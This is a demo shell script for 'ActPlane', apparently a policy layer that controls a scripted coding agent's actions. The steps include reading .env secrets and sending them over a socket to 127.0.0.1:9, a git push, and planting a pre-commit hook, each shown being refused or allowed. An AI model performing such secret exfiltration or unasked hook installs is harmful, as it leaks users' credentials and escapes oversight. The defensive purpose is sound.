#!/bin/sh
# A scripted "agent": the kind of things a coding agent does, through a
# shell, Python and a compiled program.  ActPlane decides what goes through.
cd "$(dirname "$0")"
say() { printf '\n\033[36magent>\033[0m %s\n' "$*"; }

say "taking notes (allowed, but the policy wants to know)"
mkdir -p notes && echo "refactor plan: split parser" > notes/plan.md && echo "  wrote notes/plan.md"

say "git push origin main  (shell)"
git push origin main || echo "  -> the push was refused: $?"

say "copying .env into build/config.json (shell), then posting that (Python)"
mkdir -p build && cat .env | tr -d ' ' > build/config.json
python3 - <<'PY'
import socket
key = open("build/config.json").read()
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(key.encode(), ("127.0.0.1", 9))
    print("  sent")
except PermissionError as e:
    print("  -> refused:", e)
PY

say "the same through redact (allowed: redact declassifies)"
cat .env | redact | "$DEMO_SEND" 127.0.0.1 9

say "installing a git hook by writing .git/hooks/pre-commit (compiled program)"
"$DEMO_WRITE" .git/hooks/pre-commit; echo "  -> the program exited with status $? (137 = SIGKILL)"

say "done"
